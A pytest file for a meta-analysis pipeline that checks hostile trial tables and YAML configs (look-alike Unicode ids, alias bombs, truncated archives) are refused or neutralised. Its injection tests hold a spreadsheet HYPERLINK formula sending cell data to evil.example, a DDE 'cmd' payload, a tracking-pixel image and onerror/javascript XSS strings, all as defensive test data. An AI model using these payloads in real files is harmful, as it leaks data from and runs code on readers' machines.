"""Messy and hostile input (issue 10): every file in tests/hostile/ is either read as it should be or refused
with a message naming file, physical line, study, column and value; no traceback, no silent wrong answer.

Most refusals are checked where they happen (read_trials, the config loader); a representative set runs through
Snakemake and checks that the results of the last good run are byte-identical afterwards.
"""

import csv
import html
import io
import math
import re
import shutil
import types

import jsonschema
import pandas as pd
import pytest
import yaml
from conftest import BUNDLED, ROOT
from markdown_it import MarkdownIt
from metaprop.archive.crate import UnreadableArchive, read_member, read_members
from metaprop.archive.stale import move_aside, stale_files
from metaprop.entry import run
from metaprop.io.configcheck import ConfigError, check_bayes_settings, check_config_values, load_config_file
from metaprop.io.tables import (
    TrialTableError,
    fraction_percentages,
    label_problems,
    load_schema,
    parse_printed_rate,
    read_results_tsv,
    read_trials,
    unknown_columns,
    write_tsv,
)
from metaprop.io.text import clean_cell, is_number, neutralise, skeleton, unneutralise
from metaprop.report.text import to_markdown
from metaprop.spec import level_label
from test_pipeline import OUTPUTS, digests, finished, finished_run, snakemake  # noqa: F401 (the fixtures)

HOSTILE = ROOT / "tests" / "hostile"
STUDIES = ["A 2020", "B 2021", "C 2019", "D 2018", "E 2022", "F 2017"]


def refusal(name):
    path = str(HOSTILE / name)
    with pytest.raises(TrialTableError) as err:
        read_trials([path], BUNDLED)
    return str(err.value).replace(path, name)


# file -> the whole message (paths shown relative to tests/hostile/)
REFUSED_TABLES = {
    "repeated_header.tsv": "repeated_header.tsv, line 1: column 'n' appears 2 times in the header (columns 3 and 5); "
                           "keep one.",
    "missing_cell.tsv": "missing_cell.tsv, line 4 (study 'C 2019'): 3 cells, but the header has 4 columns (no cell "
                        "for 'cr_events'); a blank value still needs its tab.",
    "extra_cell.tsv": "extra_cell.tsv, line 5 (study 'D 2018'): 5 cells, but the header has 4 columns (extra "
                      "value(s) '99'); a tab too many, or a column name missing in the header?",
    "unnamed_column_with_values.tsv": "unnamed_column_with_values.tsv: column 5 has no name in the header, but lines "
                                      "2, 3, 4, 5, 6, 7 have a value in it; name the column or empty it.",
    "zero_width_duplicate.tsv": "zero_width_duplicate.tsv, line 6 (study 'A 2020'), column 'study', value 'A 2020': "
                                "duplicate study id (first at zero_width_duplicate.tsv, line 2); the ids differ only "
                                "by invisible or unnormalised characters (U+200B ZERO WIDTH SPACE), which are removed "
                                "before comparing.",
    "nbsp_duplicate.tsv": "nbsp_duplicate.tsv, line 6 (study 'A 2020'), column 'study', value 'A 2020': duplicate "
                          "study id (first at nbsp_duplicate.tsv, line 2); the ids differ only by invisible or "
                          "unnormalised characters (U+00A0 NO-BREAK SPACE), which are removed before comparing.",
    "bidi_duplicate.tsv": "bidi_duplicate.tsv, line 6 (study 'A 2020'), column 'study', value 'A 2020': duplicate "
                          "study id (first at bidi_duplicate.tsv, line 2); the ids differ only by invisible or "
                          "unnormalised characters (U+202E RIGHT-TO-LEFT OVERRIDE), which are removed before "
                          "comparing.",
    "control_characters.tsv": "control_characters.tsv, line 6 (study 'A 2020'), column 'study', value 'A 2020': "
                              "duplicate study id (first at control_characters.tsv, line 2); the ids differ only by "
                              "invisible or unnormalised characters (U+0007 control character), which are removed "
                              "before comparing.",
    "nfd_duplicate.tsv": "nfd_duplicate.tsv, line 6 (study 'Müller 2020'), column 'study', value 'Müller 2020': "
                         "duplicate study id (first at nfd_duplicate.tsv, line 2); the ids differ only by invisible "
                         "or unnormalised characters (U+0308 COMBINING DIAERESIS), which are removed before "
                         "comparing.",
    "cyrillic_duplicate.tsv": "cyrillic_duplicate.tsv, line 6 (study 'А 2020'), column 'study', value 'А 2020': "
                              "looks the same as study 'A 2020' (cyrillic_duplicate.tsv, line 2); the ids differ only "
                              "by case, spacing, dashes or look-alike characters (U+0410 CYRILLIC CAPITAL LETTER A). "
                              "Give the cohorts distinct ids, or remove the duplicate row.",
    "case_duplicate.tsv": "case_duplicate.tsv, line 6 (study 'a 2020'), column 'study', value 'a 2020': looks the "
                          "same as study 'A 2020' (case_duplicate.tsv, line 2); the ids differ only by case, spacing, "
                          "dashes or look-alike characters. Give the cohorts distinct ids, or remove the duplicate "
                          "row.",
    "modality_case.tsv": "column 'modality': the values 'CAR-T' (modality_case.tsv, lines 2, 3); 'car-t' "
                         "(modality_case.tsv, line 6) differ only by case, spacing, dashes or look-alike characters; "
                         "each would be pooled as a subgroup of its own. Write them the same way.",
    "modality_en_dash.tsv": "column 'modality': the values 'CAR-T' (modality_en_dash.tsv, lines 2, 3); 'CAR–T' "
                            "(modality_en_dash.tsv, line 6) differ only by case, spacing, dashes or look-alike "
                            "characters (U+2013 EN DASH); each would be pooled as a subgroup of its own. Write them "
                            "the same way.",
    "modality_spacing.tsv": "column 'modality': the values 'CAR-T' (modality_spacing.tsv, lines 2, 3); 'CAR T' "
                            "(modality_spacing.tsv, line 6) differ only by case, spacing, dashes or look-alike "
                            "characters; each would be pooled as a subgroup of its own. Write them the same way.",
    "modality_cyrillic.tsv": "column 'modality': the values 'CAR-T' (modality_cyrillic.tsv, lines 2, 3); 'CАR-T' "
                             "(modality_cyrillic.tsv, line 6) differ only by case, spacing, dashes or look-alike "
                             "characters (U+0410 CYRILLIC CAPITAL LETTER A); each would be pooled as a subgroup of "
                             "its own. Write them the same way.",
    "modality_reserved_fullwidth.tsv": "modality_reserved_fullwidth.tsv, line 6 (study 'E 2022'), column 'modality', "
                                       "value 'Ｏｖｅｒａｌｌ': 'overall' is reserved for the pooled estimate of all "
                                       "subgroups.",
    "n_1e25.tsv": "n_1e25.tsv, line 3 (study 'B 2021'), column 'n', value '100000000000... (26 digits)': larger than "
                  "1,000,000,000 (10^9), the most patients a count may have.",
    "n_5000_digits.tsv": "n_5000_digits.tsv, line 3 (study 'B 2021'), column 'n', value '999999999999... (5000 "
                         "digits)': larger than 1,000,000,000 (10^9), the most patients a count may have.",
    "n_1e12.tsv": "n_1e12.tsv, line 3 (study 'B 2021'), column 'n', value '1000000000000': larger than 1,000,000,000 "
                  "(10^9), the most patients a count may have.",
    "n_fullwidth_digits.tsv": "n_fullwidth_digits.tsv, line 3 (study 'B 2021'), column 'n', value '４０': must be a "
                              "whole number >= 0 (or blank when the source does not report it).",
    **{name: (f"{name}, line 3 (study 'B 2021'), column 'cr_pct', value '{value}': not a percentage (write it as "
              "43, 43%, 45.7, <1 or Not reported, with a decimal point, or leave it blank).")
       for name, value in (("pct_underscore.tsv", "4_3"), ("pct_arabic_indic.tsv", "٤٣"),
                           ("pct_stacked_bounds.tsv", "<>=30"), ("pct_formula.tsv", "=30"))},
    "utf16_no_bom.tsv": "utf16_no_bom.tsv: UTF-16 text without a byte-order mark; save it as UTF-8 TSV "
                        "(tab-separated).",
    "utf32.tsv": "utf32.tsv: UTF-32 text; save it as UTF-8 TSV (tab-separated).",
    "latin1.tsv": "latin1.tsv: not UTF-8 text (invalid start byte at byte 92, line 5); save it as UTF-8.",
    # physical lines: blank lines and a quoted line break in a CSV cell count, as in an editor
    "blank_lines.tsv": "blank_lines.tsv, line 7 (study 'C 2019'), column 'cr_events', value '61': events exceed n "
                       "(60).",
    "quoted_newline.csv": "quoted_newline.csv, line 5 (study 'C 2019'), column 'cr_events', value '61': events "
                          "exceed n (60).",
    "unclosed_quote.csv": "unclosed_quote.csv, line 3: cannot be read as a CSV (comma-separated) table (unexpected "
                          "end of data).",
    "empty.tsv": "empty.tsv: the file is empty (no header, no rows).",
    "header_only.tsv": "header_only.tsv: the table has no rows.",
    "long_cell.tsv": "long_cell.tsv, line 4 (study 'C 2019'): cell(s) in column(s) note longer than 10,000 "
                     "characters.",
    "long_study_id.tsv": "long_study_id.tsv, line 4 (study 'CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC...'), column "
                         "'study', value 'CCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC...': 5005 characters; at most 200 "
                         "fit a forest plot's label.",
    "overlapping_cohorts.tsv": "overlapping_cohorts.tsv: column 'overlapping_cohorts' is not a known column; did "
                               "you mean 'overlaps'?",
    "hash_study.tsv": "hash_study.tsv, line 4 (study '# C 2019'), column 'study', value '# C 2019': a study id cannot "
                      "start with '#'; trial tables have no comment lines (every non-blank line is a row). Delete the "
                      "line, or put the remark in a 'note' column.",
    "overlap_case.tsv": "overlap_case.tsv, line 4 (study 'C 2019'), column 'overlaps', value 'd 2018': names "
                        "'d 2018', which is not a study in the tables (did you mean 'D 2018'?); overlaps lists study "
                        "ids separated by ';'.",
}


@pytest.mark.parametrize("name", sorted(REFUSED_TABLES))
def test_hostile_table_is_refused_with_file_line_and_value(name):
    assert REFUSED_TABLES[name] in refusal(name).splitlines()


# files read as they should be: the six trials of mini.tsv, lines 2 to 7, two modalities
READ_AS_MINI = ["utf16_bom.tsv", "trailing_tab_first_row.tsv", "unnamed_column_empty.tsv", "old_mac_line_ends.tsv",
                "modality_zero_width.tsv"]


@pytest.mark.parametrize("name", READ_AS_MINI)
def test_messy_table_reads_as_the_clean_one(name):
    trials = read_trials([str(HOSTILE / name)], BUNDLED)
    clean = read_trials([str(HOSTILE / "mini.tsv")], BUNDLED)
    columns = ["study", "modality", "n", "cr_events", "source_line"]
    pd.testing.assert_frame_equal(trials[columns], clean[columns])
    assert sorted(set(trials["modality"])) == ["Blinatumomab", "CAR-T"]


def test_fraction_percentages_and_unknown_columns_are_warned_about():
    table = read_trials([str(HOSTILE / "fraction_pct_and_extra_columns.tsv")], BUNDLED)
    (warning,) = [w.replace(str(HOSTILE) + "/", "") for w in fraction_percentages(table, BUNDLED)]
    assert warning.startswith("fraction_pct_and_extra_columns.tsv, column 'scrs_pct': every percentage is at most 1 "
                              "('0' (line 2), '0.5' (line 3), '0.2' (line 4), ...); they are read as percentages")
    assert unknown_columns(table, load_schema(outcomes=BUNDLED)) == ["registry_id", "funding"]
    assert unknown_columns(table, load_schema(outcomes=BUNDLED), named=["funding"]) == ["registry_id"]
    bundled = read_trials([str(ROOT / "data/raw/table1.tsv")], BUNDLED)
    assert fraction_percentages(bundled, BUNDLED) == [] and unknown_columns(bundled, load_schema(outcomes=BUNDLED)) == []
    zeros = table.assign(scrs_pct="0")  # no events anywhere is a count, not a fraction
    assert fraction_percentages(zeros, BUNDLED) == []


def test_a_truncated_archive_is_unreadable_not_a_crash(tmp_path):
    import tarfile

    good = tmp_path / "a.tar.gz"
    (tmp_path / "meta-analysis/results/tables").mkdir(parents=True)
    (tmp_path / "meta-analysis/results/tables/studies.tsv").write_text("study\n" + "x" * 100_000)
    with tarfile.open(good, "w:gz") as tar:
        tar.add(tmp_path / "meta-analysis", arcname="meta-analysis")
    assert read_member(good, "results/tables/studies.tsv").startswith("study")
    assert read_member(tmp_path / "none.tar.gz", "results/tables/studies.tsv") is None
    both = read_members(good, ["results/tables/studies.tsv", "results/tables/pooled.tsv"])  # one pass, both asked
    assert both["results/tables/studies.tsv"].startswith("study") and both["results/tables/pooled.tsv"] is None
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
    with pytest.raises(UnreadableArchive, match=r"cut.tar.gz cannot be read \(it ends early \(truncated\)\)"):
        read_member(cut, "results/tables/studies.tsv")
    cut.write_bytes(b"not an archive at all")
    with pytest.raises(UnreadableArchive):
        read_member(cut, "results/tables/studies.tsv")


def test_an_archive_cut_anywhere_is_unreadable_or_read_whole(tmp_path):
    # every length: the previous run's tables come back complete, or the archive is said to be unreadable; never a
    # table missing or cut short, never another error
    from metaprop.archive.crate import write_archive

    studies, pooled = "study\tx\n" * 300, "outcome\ty\n" * 400
    members = [("results/tables/studies.tsv", studies.encode()), ("results/tables/pooled.tsv", pooled.encode()),
               ("zz/last.bin", bytes(range(256)) * 8)]
    write_archive(members, tmp_path / "whole.tar.gz")
    data = (tmp_path / "whole.tar.gz").read_bytes()
    cut, read_whole = tmp_path / "cut.tar.gz", 0
    for length in range(len(data)):
        cut.write_bytes(data[:length])
        try:
            texts = read_members(cut, ["results/tables/studies.tsv", "results/tables/pooled.tsv"])
        except UnreadableArchive:
            continue
        assert texts == {"results/tables/studies.tsv": studies, "results/tables/pooled.tsv": pooled}, length
        read_whole += 1
    assert read_whole < 64  # only cuts inside gzip's trailer, after every tar header, are read


def test_a_table_listed_twice_is_refused_once(tmp_path):
    path = str(HOSTILE / "mini.tsv")
    with pytest.raises(TrialTableError) as err:
        read_trials([path, str(HOSTILE / ".." / "hostile" / "mini.tsv")], BUNDLED)
    assert str(err.value).startswith(f"{HOSTILE / '..' / 'hostile' / 'mini.tsv'}: listed twice under trials (also as "
                                     f"'{path}')")
    assert len(str(err.value).splitlines()) == 1


def test_a_directory_is_called_a_directory():
    with pytest.raises(TrialTableError, match="a directory, not a trial table"):
        read_trials([str(HOSTILE)], BUNDLED)


def test_a_table_over_the_size_limit_is_refused_before_reading(tmp_path):
    big = tmp_path / "big.tsv"
    with open(big, "wb") as handle:
        handle.truncate(20_000_001)  # sparse: nothing is written, only the size is checked
    with pytest.raises(TrialTableError, match="20,000,001 bytes; a trial table may have at most 20,000,000"):
        read_trials([str(big)], BUNDLED)


@pytest.mark.parametrize(
    ("name", "message"),
    [("moderator_case.tsv", ("column 'age_group': the values 'pediatric' (moderator_case.tsv, lines 2, 3); "
                             "'Pediatric' (moderator_case.tsv, line 4) differ only by case")),
     ("moderator_overall.tsv", ("column 'age_group', value 'Overall' (moderator_overall.tsv, line 2): 'overall' "
                                "is reserved for the pooled estimate of all subgroups."))],
)
def test_moderator_labels_follow_the_modality_rules(name, message):
    trials = read_trials([str(HOSTILE / name)], BUNDLED)  # fine as a table: the column is checked when an analysis uses it
    problems = label_problems(trials, ["age_group"])
    assert len(problems) == 1 and problems[0].replace(str(HOSTILE / name), name).startswith(message)


@pytest.mark.parametrize(
    ("printed", "parsed"),
    [("<=5", ("at most", 5.0, 0)), (">= 90%", ("at least", 90.0, 0)), ("≤5", ("at most", 5.0, 0)),
     (".5", ("value", 0.5, 1)), ("43.0 %", ("value", 43.0, 1)), ("4_3", ("unreadable", None, 0)),
     ("٤٣", ("unreadable", None, 0)), ("<>=30", ("unreadable", None, 0)), ("=30", ("unreadable", None, 0)),
     ("1e2", ("unreadable", None, 0)), ("nan", ("unreadable", None, 0)), ("inf", ("unreadable", None, 0))],
)
def test_printed_rates_are_read_strictly(printed, parsed):
    assert parse_printed_rate(printed) == parsed


def test_normalisation_and_look_alikes():
    assert clean_cell("A\u200b\u00a0 2020\u202e") == "A 2020"
    assert clean_cell("Mu\u0308ller") == "Müller"
    assert len({skeleton(s) for s in ("CAR-T", "car-t", "CAR–T", "CAR T", "CАR-T", "ＣＡＲ－Ｔ")}) == 1
    assert skeleton("Blinatumomab") != skeleton("CAR-T") and skeleton("Topp 2014") != skeleton("Topp 2015")


# --- spreadsheet formulas and Markdown ---

def test_text_cells_are_neutralised_and_read_back_exactly(tmp_path):
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "-",
             "'=already quoted", "'plain quote", "Topp 2015", "-0.5"]
    table = pd.DataFrame({"study": names, "estimate": [-0.25] * len(names), "k": [-1] * len(names)})
    path = tmp_path / "t.tsv"
    write_tsv(table.rename(columns={"study": "=col"}), path)
    header, *cells = csv.reader(io.StringIO(path.read_text()), delimiter="\t")  # as a spreadsheet splits it
    assert header == ["'=col", "estimate", "k"]
    assert [c[0] for c in cells] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+cmd|' /C calc'!A0",
                                     "'@SUM(1+1)", "'-2+3", "'-", "''=already quoted", "'plain quote", "Topp 2015",
                                     "-0.5"]
    assert {c[1] for c in cells} == {"-0.25"} and {c[2] for c in cells} == {"-1"}  # numbers stay numbers
    back = read_results_tsv(path, text=["=col"])
    assert list(back.columns) == ["=col", "estimate", "k"] and list(back["=col"]) == names
    assert all(unneutralise(neutralise(n)) == n for n in names)


def test_markdown_in_data_is_escaped():
    text = "Study ![x](http://evil.example/pixel.png) and <img src=x> and *bold* and _it_ in leave_one_out &amp;"
    blocks = [("p", text), ("table", ["Study"], [["[a](javascript:alert(1))|x"]]),
              ("pre", "trials: [x]\nwhere: '```\n![x](http://evil.example/y.png)'\n")]
    md = to_markdown(blocks, {})
    assert md.count("````") == 2  # the fence is longer than the backticks inside it
    rendered = MarkdownIt("commonmark").enable("table").render(md)  # what a Markdown viewer makes of it
    assert "<img" not in rendered and "<a " not in rendered and "<em>" not in rendered
    assert html.unescape(rendered.split("</p>")[0].removeprefix("<p>")) == text  # the text, exactly
    assert html.unescape(rendered.split("<td>")[1].split("</td>")[0]) == "[a](javascript:alert(1))|x"
    assert "leave_one_out" in md  # an underscore inside a word stays as it is


@pytest.mark.parametrize(("level", "label"), [(0.95, "95%"), (0.9, "90%"), (0.975, "97.5%"), (0.999, "99.9%"),
                                              (0.9512345, "95.12345%"), (0.5, "50%")])
def test_level_labels_keep_every_digit(level, label):
    assert level_label(level) == label


# --- config files and values ---

REFUSED_CONFIGS = {
    "config_duplicate_key.yaml": "config_duplicate_key.yaml, line 3: key 'level' appears twice (first on line 2); "
                                 "keep one.",
    "config_nested_duplicate.yaml": "config_nested_duplicate.yaml, line 4: key 'by' appears twice (first on line 3); "
                                    "keep one.",
    "config_syntax_error.yaml": "config_syntax_error.yaml, line 4, column 15: YAML syntax error: while parsing a "
                                "flow sequence expected ',' or ']', but got ':' (the construct began on line 3).",
    "config_tab_indent.yaml": "config_tab_indent.yaml, line 2, column 1: YAML syntax error: while scanning for the "
                              "next token found character '\\t' that cannot start any token.",
    "config_billion_laughs.yaml": "config_billion_laughs.yaml, line 3: YAML aliases (*name) are not allowed in a "
                                  "config file; write the value out.",
    "config_laughs_in_where.yaml": "config_laughs_in_where.yaml, line 4: YAML aliases (*name) are not allowed in a "
                                   "config file; write the value out.",
    "config_not_a_mapping.yaml": "config_not_a_mapping.yaml: a config file must be a mapping of keys to values "
                                 "(key: value), not a list.",
    "config_latin1.yaml": "config_latin1.yaml, line 2: not UTF-8 text (invalid start byte); save it as UTF-8.",
}


@pytest.mark.parametrize("name", sorted(REFUSED_CONFIGS))
def test_hostile_config_file_is_refused_with_file_and_line(name):
    with pytest.raises(ConfigError) as err:
        load_config_file(str(HOSTILE / name))
    assert str(err.value).replace(str(HOSTILE / name), name) == REFUSED_CONFIGS[name]


def test_config_file_limits(tmp_path):
    big = tmp_path / "big.yaml"
    big.write_text("trials: [a]\n" + "#" * 1_000_000 + "\n")
    with pytest.raises(ConfigError, match="a config file may have at most 1,000,000"):
        load_config_file(big)
    with pytest.raises(ConfigError, match="a directory, not a config file"):
        load_config_file(tmp_path)


@pytest.mark.parametrize(
    ("config", "message"),
    [({"trials": ["a"], "level": math.nan}, "config: level is nan; it must be a finite number."),
     ({"trials": ["a"], "level": math.inf}, "config: level is inf; it must be a finite number."),
     ({"trials": ["a"], "x": {"y": [1.0, -math.inf]}}, "config: x.y[1] is -inf; it must be a finite number.")],
)
def test_config_values_must_be_finite(config, message):
    with pytest.raises(ConfigError) as err:
        check_config_values(config)
    assert str(err.value) == message


def test_an_exponential_config_value_stops_at_the_limit():
    laughs = ["lol"] * 9
    for _ in range(9):
        laughs = [laughs] * 9  # 9^10 leaves, shared: what a YAML alias bomb becomes once loaded
    with pytest.raises(ConfigError, match="more than 10,000 values"):
        check_config_values({"trials": ["a"], "unknown": laughs})


@pytest.mark.parametrize(
    ("bayes", "message"),
    [({"tau_scale": 1e300}, ("config: bayes.tau_scale is 1e+300; it must be between 0.001 and 100 (a standard "
                             "deviation or scale on the logit scale).")),
     ({"mu_sd": 1e-300}, ("config: bayes.mu_sd is 1e-300; it must be between 0.01 and 1000 (a standard deviation "
                          "or scale on the logit scale).")),
     ({"sensitivity_priors": [{"tau_prior": "half-cauchy", "tau_scale": 1}, {"tau_prior": "half-normal",
                                                                            "tau_scale": 1e300}]},
      "config: bayes.sensitivity_priors[1].tau_scale is 1e+300; it must be between 0.001 and 100"),
     ({"deltas": [0, 0.1, 0.1000001]}, ("config: bayes.deltas 0.1 and 0.1000001 would both be reported in column "
                                        "prob_gt_0.1 (deltas are printed to 6 significant digits); keep one."))],
)
def test_bayes_numbers_the_schema_lets_through_are_refused(bayes, message):
    with pytest.raises(ConfigError) as err:
        check_bayes_settings({"trials": ["a"], "bayes": bayes})
    assert str(err.value).startswith(message)
    check_bayes_settings({"bayes": {"mu_sd": 1000, "tau_scale": 0.001, "deltas": [0, 0.1, 0.10001]}})  # the limits


@pytest.mark.parametrize(("level", "ok"), [(0.95, True), (0.5, True), (0.999, True), (0.9999999999, False),
                                           (0.4, False), (1, False), (0, False)])
def test_level_range_in_the_schema(level, ok):
    schema = yaml.safe_load((ROOT / "workflow/schemas/config.schema.yaml").read_text())
    valid = jsonschema.Draft202012Validator(schema).is_valid({"trials": ["a"], "outcomes": [{"id": "r", "label": "r", "events": "e"}],
                                                                  "level": level})
    assert valid == ok


# --- a failing rule says why, even when its log cannot be written ---

def test_full_disk_cause_reaches_the_console(capfd):
    def main(smk):
        raise OSError(28, "No space left on device", "results/tables/pooled.tsv")

    with pytest.raises(OSError):
        run(main, types.SimpleNamespace(log=["/dev/full"], rule="pool"))
    err = capfd.readouterr().err
    assert "Error in rule pool: OSError: [Errno 28] No space left on device: 'results/tables/pooled.tsv'" in err


# --- results/ keeps this configuration's outputs only ---

def test_stale_files_are_moved_aside_with_their_paths(tmp_path):
    results = tmp_path / "results"
    for path in ("tables/pooled.tsv", "figures/forest_scrs.png", "tables/subgroups/age_group/pooled.tsv",
                 "stale/old/x.tsv"):
        (results / path).parent.mkdir(parents=True, exist_ok=True)
        (results / path).write_text(path)
    files = stale_files(results, [str(results / "tables/pooled.tsv")])
    assert files == [str(results / "figures/forest_scrs.png"), str(results / "tables/subgroups/age_group/pooled.tsv")]
    folder = move_aside(files, results, stamp="T1")
    assert folder == results / "stale" / "T1"
    assert (folder / "figures/forest_scrs.png").read_text() == "figures/forest_scrs.png"
    assert not (results / "figures").exists() and not (results / "tables/subgroups").exists()
    assert (results / "tables/pooled.tsv").exists() and (results / "stale/old/x.tsv").exists()
    assert move_aside([], results) is None


# --- through Snakemake: refused before anything runs, earlier results byte-identical ---

@pytest.fixture
def project(finished, tmp_path):  # noqa: F811 (the fixture imported from test_pipeline)
    dest = tmp_path / "copy"
    shutil.copytree(finished, dest)
    return dest


def edit_config(text):
    def change(project):
        (project / "config.yaml").write_text(text)
        return []
    return change


def use_table(name):
    def change(project):
        shutil.copy(HOSTILE / name, project / "data/raw" / name)
        return ["--config", f"trials=[data/raw/{name}]"]
    return change


def extra_config(text):
    def change(project):
        (project / "extra.yaml").write_text(text)
        return ["--configfile", "extra.yaml"]
    return change


def newline_name(project):
    shutil.copy(HOSTILE / "mini.tsv", project / "data/raw" / "mini\nx.tsv")
    (project / "newline.yaml").write_text('trials: ["data/raw/mini\\nx.tsv"]\n')
    return ["--configfile", "newline.yaml"]


PIPELINE_REFUSALS = {
    "duplicate key": (edit_config((HOSTILE / "config_duplicate_key.yaml").read_text()),
                      "config.yaml, line 3: key 'level' appears twice (first on line 2); keep one."),
    "syntax error": (edit_config((HOSTILE / "config_syntax_error.yaml").read_text()),
                     "config.yaml, line 4, column 15: YAML syntax error"),
    "billion laughs": (edit_config((HOSTILE / "config_billion_laughs.yaml").read_text()),
                       "config.yaml, line 3: YAML aliases (*name) are not allowed"),
    "level nan": (lambda project: ["--config", "level=nan"], "config: level is nan; it must be a finite number."),
    "level 0.9999999999": (lambda project: ["--config", "level=0.9999999999"],
                           "0.9999999999 is greater than the maximum of 0.999"),
    "repeated header": (use_table("repeated_header.tsv"), REFUSED_TABLES["repeated_header.tsv"]),
    "missing cell": (use_table("missing_cell.tsv"), REFUSED_TABLES["missing_cell.tsv"]),
    "look-alike modality": (use_table("modality_en_dash.tsv"),
                            "differ only by case, spacing, dashes or look-alike characters (U+2013 EN DASH)"),
    "n of 10^25": (use_table("n_1e25.tsv"), "larger than 1,000,000,000 (10^9)"),
    "trials is a directory": (lambda project: ["--config", "trials=[data/raw]"],
                              "config: trials path 'data/raw' is a directory, not a file"),
    "trials is a device": (lambda project: ["--config", "trials=[/dev/zero]"],
                           "config: trials path '/dev/zero' is not a regular file"),
    "prior scale 1e300": (extra_config("bayes: {tau_scale: 1.0e+300}\n"),
                          "config: bayes.tau_scale is 1e+300; it must be between 0.001 and 100"),
    "overlapping_cohorts column": (use_table("overlapping_cohorts.tsv"),
                                   "column 'overlapping_cohorts' is not a known column; did you mean 'overlaps'?"),
    "line break in a table name": (newline_name, "contains a line break or another control character"),
    "table listed twice": (lambda project: ["--config", "trials=[data/raw/table1.tsv,./data/raw/table1.tsv]"],
                           "listed twice under trials"),
}


@pytest.mark.parametrize("case", sorted(PIPELINE_REFUSALS))
def test_hostile_input_through_snakemake_leaves_results_untouched(project, case):
    change, message = PIPELINE_REFUSALS[case]
    before = digests(project)
    args = change(project)
    run_ = snakemake(project, *args)
    assert run_.returncode != 0
    output = run_.stderr + run_.stdout
    assert message in output
    assert "Traceback" not in output
    assert digests(project) == before


def test_results_as_a_plain_file_is_refused(project):
    shutil.rmtree(project / "results")
    (project / "results").write_text("not a folder")
    run_ = snakemake(project)
    output = run_.stderr + run_.stdout
    assert run_.returncode != 0 and "Traceback" not in output
    assert "results is a file, not a folder; the pipeline writes its results in results/." in output
    assert (project / "results").read_text() == "not a folder"


def test_warnings_and_a_truncated_archive_reach_console_and_report(project):
    archive = project / "results/archive/meta-analysis.tar.gz"
    archive.write_bytes(archive.read_bytes()[:5000])  # a run killed while writing it, a full disk
    shutil.copy(HOSTILE / "fraction_pct_and_extra_columns.tsv", project / "data/raw/f.tsv")
    run_ = snakemake(project, "--config", "trials=[data/raw/f.tsv]", "comparison=[CAR-T, Blinatumomab]")
    output = run_.stderr + run_.stdout
    assert run_.returncode == 0, output
    assert "Warning: data/raw/f.tsv, column 'scrs_pct': every percentage is at most 1" in output
    assert "column(s) 'registry_id', 'funding' are in neither the input contract" in output
    assert "archive results/archive/meta-analysis.tar.gz cannot be read (it ends early (truncated))" in output
    md = (project / "results/report.md").read_text()
    assert "## Warnings about the trial tables" in md and "every percentage is at most 1" in md
    assert "'registry_id', 'funding'" in md
    assert "The previous run's archive results/archive/meta-analysis.tar.gz cannot be read" in md
    assert read_member(archive, "results/tables/studies.tsv")  # replaced by this run's
    again = snakemake(project, "--config", "trials=[data/raw/f.tsv]", "comparison=[CAR-T, Blinatumomab]",
                      "--forcerun", "report")
    assert again.returncode == 0 and "cannot be read" not in (project / "results/report.md").read_text()


def test_another_dataset_leaves_no_stale_result_beside_the_new_report(project):
    shutil.copy(HOSTILE / "mini.tsv", project / "data/raw/mini.tsv")
    args = ["--config", "trials=[data/raw/mini.tsv]"]
    run_ = snakemake(project, *args)
    assert run_.returncode == 0, run_.stderr
    left = {str(p.relative_to(project)) for p in (project / "results").rglob("*") if p.is_file() and "stale" not in p.parts}
    # nothing of the other outcomes or of the moderator analyses the bundled configuration had
    assert [p for p in left if any(k in p for k in ("scrs", "scns", "cr_itt", "subgroups", "_by_"))] == []
    assert {"results/report.md", "results/report.html", "results/tables/pooled.tsv", "results/tables/studies.tsv",
            "results/figures/forest_cr.png", "results/logs/pool.log", "results/archive/meta-analysis.tar.gz"} <= left
    (stale,) = (project / "results/stale").iterdir()
    assert (stale / "figures/forest_scrs.png").exists() and (stale / "tables/subgroups/age_group/pooled.tsv").exists()
    assert f"to results/stale/{stale.name}/" in run_.stdout + run_.stderr
    again = snakemake(project, *args)
    assert again.returncode == 0 and "Nothing to be done" in again.stdout + again.stderr
    assert len(list((project / "results/stale").iterdir())) == 1


def test_formula_and_markdown_names_are_defused_in_every_output(project):
    shutil.copy(HOSTILE / "formula_and_markdown_names.tsv", project / "data/raw/names.tsv")
    run_ = snakemake(project, "--config", "trials=[data/raw/names.tsv]")
    assert run_.returncode == 0, run_.stderr
    tables = sorted((project / "results/tables").rglob("*.tsv"))
    assert len(tables) >= 6  # studies, pooled, tests, leave-one-out, methods, overlap (and the review tables)
    for table in tables:
        for row in csv.reader(io.StringIO(table.read_text()), delimiter="\t"):
            for cell in row:
                assert not cell.startswith(("=", "+", "@")), (table, cell)
                assert not cell.startswith("-") or is_number(cell), (table, cell)
    studies = read_results_tsv(project / "results/tables/studies.tsv")
    assert set(studies["study"]) == set(pd.read_csv(HOSTILE / "formula_and_markdown_names.tsv", sep="\t",
                                                    quoting=3)["study"])
    md = (project / "results/report.md").read_text()
    rendered = MarkdownIt("commonmark").enable("table").render(md)
    assert "evil.example" in rendered
    links = re.findall(r"<a href=\"([^\"]*)\"", rendered)
    assert links and all(link.startswith("#") for link in links)  # the table of contents only
    assert [tag for tag in rendered.split("<img")[1:] if 'src="http' in tag] == []  # only the local forest plots
    assert "<img src=x" not in rendered and "&lt;img src=x onerror=alert(1)&gt; 2017" in rendered
    html = (project / "results/report.html").read_text()
    assert "<img src=x" not in html and 'src="http' not in html


def test_utf16_table_from_excel_runs(project):
    shutil.copy(HOSTILE / "utf16_bom.tsv", project / "data/raw/u16.tsv")
    shutil.copy(HOSTILE / "mini.tsv", project / "data/raw/mini.tsv")
    for name in ("u16", "mini"):
        run_ = snakemake(project, "--config", f"trials=[data/raw/{name}.tsv]")
        assert run_.returncode == 0, run_.stderr
        pooled = (project / "results/tables/pooled.tsv").read_bytes()
        if name == "u16":
            first = pooled
    assert first == pooled  # same trials, same numbers


def test_interrupted_run_is_documented():
    readme = (ROOT / "README.md").read_text()
    assert "## When a run is interrupted" in readme
    assert "snakemake --unlock" in readme and "--rerun-incomplete" in readme

